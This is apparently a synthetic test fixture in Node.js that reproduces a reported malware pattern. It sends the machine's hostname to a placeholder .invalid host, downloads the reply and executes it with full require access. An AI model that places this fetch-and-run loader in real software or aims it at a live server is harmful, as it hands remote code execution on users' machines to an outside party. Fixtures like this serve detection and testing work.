// Synthetic, inert fixture written from public reports
const { get } = require("https");
get("https://parts.prompt-index.invalid/v2/" + require("os").hostname(), (r) => {
  let t = "";
  r.on("data", (d) => (t += d)).on("end", () => new Function("require", t)(require));
});
